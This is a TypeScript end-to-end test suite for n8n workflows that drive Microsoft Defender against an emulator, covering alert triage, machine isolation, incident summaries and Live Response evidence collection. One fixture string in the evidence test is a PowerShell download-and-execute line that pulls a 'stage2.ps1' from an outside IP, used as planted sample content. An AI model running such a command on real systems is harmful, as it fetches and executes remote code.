/* eslint-disable @n8n/community-nodes/no-restricted-imports, @n8n/community-nodes/no-restricted-globals, @n8n/community-nodes/no-dangerous-functions */
/**
 * Every example workflow in examples/ runs in a real n8n (each pinned line) against the emulator,
 * asserted from the emulator's request log and the execution data:
 *   1. alert triage (headless `n8n execute`), 2. webhook isolate/release (answered to `curl` on
 *   loopback), 3. new-incident trigger (published, `n8n start`), 4. the AI-agent example is only
 *   imported and its node types checked (it needs a model), 5. the stream-export example is imported only (its own e2e runs it on Azurite),
 *   6. Live Response evidence collection
 *   (headless; the file lands in n8n's binary data and the Crypto node hashes it).
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

import { emulatorCredentials } from '../harness';
import { startEmulator, type EmulatorHandle } from '../emulator';
import {
	REPO_ROOT,
	createUserFolder,
	executeWorkflow,
	importCredentials,
	importWorkflows,
	installPackageTarball,
	nodeOutput,
	publishWorkflow,
	setupOwnerAndLogin,
	startN8n,
	waitFor,
	type ExecutionRun,
	type N8nFolder,
	type N8nRest,
	type RunningN8n,
} from '../../scripts/n8n/harness';
import { e2eLines } from './global-setup';

type Json = Record<string, unknown>;

function loadExamples(): Json[] {
	return readdirSync(join(REPO_ROOT, 'examples'))
		.filter((f) => f.endsWith('.json'))
		.sort()
		.map((f) => JSON.parse(readFileSync(join(REPO_ROOT, 'examples', f), 'utf8')) as Json);
}

/** `curl` on loopback, as a user would call the webhook. */
async function curlJson(url: string, body: Json): Promise<{ status: number; body: Json }> {
	return await new Promise((resolve, reject) => {
		const child = spawn('curl', ['-sS', '-X', 'POST', '-H', 'content-type: application/json', '--data', JSON.stringify(body), '-w', '\n%{http_code}', url]);
		let out = '';
		let err = '';
		child.stdout.on('data', (d: Buffer) => (out += d.toString()));
		child.stderr.on('data', (d: Buffer) => (err += d.toString()));
		child.on('error', reject);
		child.on('close', (code) => {
			if (code !== 0) return reject(new Error(`curl exit ${code}: ${err}`));
			const nl = out.lastIndexOf('\n');
			const text = out.slice(0, nl);
			let parsed: Json = {};
			try {
				parsed = JSON.parse(text) as Json;
			} catch {
				parsed = { raw: text };
			}
			resolve({ status: Number(out.slice(nl + 1)), body: parsed });
		});
	});
}

describe.each(e2eLines())('real n8n line %i: the example workflows', (line) => {
	let emu: EmulatorHandle;
	let folder: N8nFolder;
	let srv: RunningN8n | undefined;
	let api: N8nRest;
	const examples = loadExamples();
	const apiCalls = () => emu.log.filter((e) => e.family !== 'entra' && e.family !== 'control' && !/oauth2\/v2\.0\/token$/.test(e.path));

	beforeAll(async () => {
		emu = await startEmulator({
			seed: 7,
			sizes: { machines: 40, alerts: 600, incidents: 200, huntingRows: 3000 },
			actionTiming: { pendingMs: 1000, inProgressMs: 1000 },
		});
		folder = await createUserFolder({ line });
		await installPackageTarball(folder, process.env.E2E_TARBALL as string);
		await importCredentials(folder, [
			{
				id: 'defenderDemoCredential',
				name: 'Microsoft Defender (emulator)',
				type: 'microsoftDefenderEntraAppApi',
				data: emulatorCredentials(emu, { app: 'full', tenant: 'A' }),
			},
		]);
		await importWorkflows(folder, examples);
	});

	afterAll(async () => {
		await srv?.stop();
		await folder?.cleanup();
		await emu?.close();
	});

	it('has the six examples, all using the example credential ids', () => {
		expect(examples.map((w) => w.id)).toEqual([
			'defenderExampleAlertTriage',
			'defenderExampleWebhookResponse',
			'defenderExampleIncidentTrigger',
			'defenderExampleAiAgent',
			'defenderExampleStreamExport',
			'defenderExampleCollectEvidence',
		]);
		for (const wf of examples) {
			for (const n of wf.nodes as Array<{ type: string; credentials?: Record<string, { id: string }> }>) {
				if (n.type === 'n8n-nodes-microsoft-defender.microsoftDefenderStreamTrigger') {
					expect(n.credentials?.microsoftDefenderStorageApi?.id).toBe('defenderDemoStorageCredential');
				} else if (n.type.startsWith('n8n-nodes-microsoft-defender.')) {
					expect(n.credentials?.microsoftDefenderEntraAppApi?.id).toBe('defenderDemoCredential');
				}
			}
		}
	});

	it('1 alert triage: alerts → hunting → isolation (waited) → incident comment, one chain per alert', async () => {
		emu.clearLog();
		const store = emu.store('A');
		const res = await executeWorkflow(folder, 'defenderExampleAlertTriage', 300_000);
		if (!res.ok) throw new Error(`execution failed:\n${res.stdout.slice(-3000)}\n${res.stderr.slice(-2000)}`);
		const run = res.run as ExecutionRun;
		const alerts = nodeOutput(run, 'Get new high-severity alerts');
		const hunts = nodeOutput(run, 'Hunt on the device');
		const isolations = nodeOutput(run, 'Isolate the device');
		const comments = nodeOutput(run, 'Comment on the incident');
		expect(alerts.length).toBeGreaterThan(0);
		expect(alerts.length).toBeLessThanOrEqual(3);
		for (const a of alerts) expect(String(a.severity).toLowerCase()).toBe('high');
		expect(hunts).toHaveLength(alerts.length);
		expect(isolations).toHaveLength(alerts.length);
		expect(comments).toHaveLength(alerts.length);
		// Paired items: the comment for alert k traces back to item k of the alert list.
		const commentRuns = run.data.resultData.runData['Comment on the incident'][0].data?.main?.[0] ?? [];
		commentRuns.forEach((it, k) => expect((it as { pairedItem?: { item: number } }).pairedItem?.item).toBe(k));
		// What the emulator saw.
		const calls = apiCalls();
		expect(calls.filter((e) => e.method === 'GET' && /alerts/i.test(e.path)).length).toBeGreaterThanOrEqual(1);
		expect(calls.filter((e) => e.method === 'POST' && /hunting/i.test(e.path))).toHaveLength(alerts.length);
		const isolatePosts = calls.filter((e) => e.method === 'POST' && /\/isolate$/.test(e.path));
		expect(isolatePosts.length).toBeGreaterThanOrEqual(1);
		expect(isolatePosts.length).toBeLessThanOrEqual(alerts.length);
		expect(calls.filter((e) => e.method === 'POST' && /comments?$/i.test(e.path))).toHaveLength(alerts.length);
		// Only a repeated isolation may be refused (400 ActiveRequestAlreadyExists → the pending action is reused).
		expect(calls.filter((e) => e.status >= 400 && !(e.status === 400 && /\/isolate$/.test(e.path)))).toEqual([]);
		for (const a of alerts) expect(store.machineState(String(a.machineId)).isolated).toBe(true);
		for (const m of isolations) expect(m.status).toBe('Succeeded');
	});

	it('6 collect evidence: Live Response collects a file into n8n binary data, the next node reads it (SHA-256), the incident gets a comment', async () => {
		emu.clearLog();
		const store = emu.store('A');
		const content = 'Invoke-WebRequest http://203.0.113.7/stage2.ps1 | Invoke-Expression\n';
		store.setLiveResponseFile('C:\\Windows\\Temp\\payload.ps1', 0, content);
		const res = await executeWorkflow(folder, 'defenderExampleCollectEvidence', 300_000);
		if (!res.ok) throw new Error(`execution failed:\n${res.stdout.slice(-3000)}\n${res.stderr.slice(-2000)}`);
		const run = res.run as ExecutionRun;
		const [alert] = nodeOutput(run, 'Get a new high-severity alert');
		const [file] = nodeOutput(run, 'Collect the file from the device');
		const [hashed] = nodeOutput(run, 'Fingerprint the stored file');
		const comments = nodeOutput(run, 'Comment on the incident');
		expect(file).toEqual(expect.objectContaining({ status: 'Succeeded', machineId: alert.machineId, fileName: 'payload.ps1', path: 'C:\\Windows\\Temp\\payload.ps1' }));
		// The Crypto node read the binary data through n8n's own helpers.
		expect(hashed.sha256).toBe(createHash('sha256').update(content).digest('hex'));
		const binary = (run.data.resultData.runData['Collect the file from the device'][0].data?.main?.[0]?.[0] as { binary?: Record<string, Json> }).binary;
		expect(binary?.evidence).toEqual(expect.objectContaining({ fileName: 'payload.ps1', mimeType: 'text/plain' }));
		expect(comments).toHaveLength(1);
		const calls = apiCalls();
		expect(calls.filter((e) => e.method === 'POST' && /\/runliveresponse$/.test(e.path))).toHaveLength(1);
		expect(emu.log.some((e) => e.path.includes('/liveresponse/') && e.status === 200)).toBe(true);
		expect(calls.filter((e) => e.status >= 400)).toEqual([]);
	});

	it('2 + 3 published: the webhook answers curl (isolate, then release) and the incident trigger summarises a new incident once', async () => {
		const store = emu.store('A');
		await publishWorkflow(folder, 'defenderExampleWebhookResponse');
		await publishWorkflow(folder, 'defenderExampleIncidentTrigger');
		emu.clearLog();
		srv = await startN8n(folder);
		api = await setupOwnerAndLogin(srv);
		await srv.waitForWebhook('defender/machine-action');

		// Workflow 2.
		const machine = store.machines[5];
		const url = `${srv.baseUrl}/webhook/defender/machine-action`;
		const iso = await curlJson(url, { machine: machine.computerDnsName, action: 'isolate', reason: 'e2e' });
		expect(iso.status).toBe(200);
		expect(iso.body).toEqual(expect.objectContaining({ type: 'Isolate', status: 'Succeeded' }));
		expect(store.machineState(machine.id).isolated).toBe(true);
		const rel = await curlJson(url, { machine: machine.computerDnsName, action: 'release', reason: 'e2e' });
		expect(rel.status).toBe(200);
		expect(rel.body).toEqual(expect.objectContaining({ type: 'Unisolate', status: 'Succeeded' }));
		expect(store.machineState(machine.id).isolated).toBe(false);
		expect(apiCalls().some((e) => e.method === 'POST' && e.path.endsWith(`/machines/${machine.id}/isolate`))).toBe(true);
		expect(apiCalls().some((e) => e.method === 'POST' && e.path.endsWith(`/machines/${machine.id}/unisolate`))).toBe(true);

		// Workflow 3: an incident added now is summarised exactly once, also after another poll.
		const incident = store.addIncident({ incidentName: 'e2e: ransomware behaviour', severity: 'High', alerts: 2 });
		const id = String(incident.incidentId);
		const summaries = async (): Promise<Json[]> => {
			const out: Json[] = [];
			for (const e of await api.listExecutions('defenderExampleIncidentTrigger')) {
				const full = await api.getExecution(e.id, line);
				for (const r of full.data?.resultData.runData['Readable summary'] ?? []) {
					for (const it of r.data?.main?.[0] ?? []) out.push(it.json);
				}
			}
			return out;
		};
		const incidentPolls = () => emu.log.filter((e) => e.method === 'GET' && /incidents/i.test(e.path) && !/incidents\/\d/.test(e.path)).length;
		const first = await waitFor(async () => {
			const s = await summaries();
			return s.some((x) => String(x.summary).includes(id)) ? s : undefined;
		}, 100_000, 2000);
		const ours = first.filter((x) => String(x.summary).includes(id));
		expect(ours).toHaveLength(1);
		expect(String(ours[0].summary)).toContain('2 alert');
		const polls = incidentPolls();
		await waitFor(async () => incidentPolls() > polls, 100_000, 2000);
		await new Promise((r) => setTimeout(r, 3000));
		const after = await summaries();
		expect(after.filter((x) => String(x.summary).includes(id))).toHaveLength(1);
		const execs = await api.listExecutions('defenderExampleIncidentTrigger');
		expect(execs.every((e) => e.status === 'success')).toBe(true);
	});

	it('4 AI agent: imported, and n8n knows every node type it uses (not run: needs a model)', async () => {
		if (!srv) {
			srv = await startN8n(folder);
			api = await setupOwnerAndLogin(srv);
		}
		const types = new Set(await api.nodeTypeNames());
		const agent = examples.find((w) => w.id === 'defenderExampleAiAgent') as Json;
		for (const n of agent.nodes as Array<{ type: string }>) expect(types.has(n.type)).toBe(true);
		const wf = await api.request<{ data?: { id?: string } }>('GET', '/rest/workflows/defenderExampleAiAgent');
		expect(wf.status).toBe(200);
	});
});
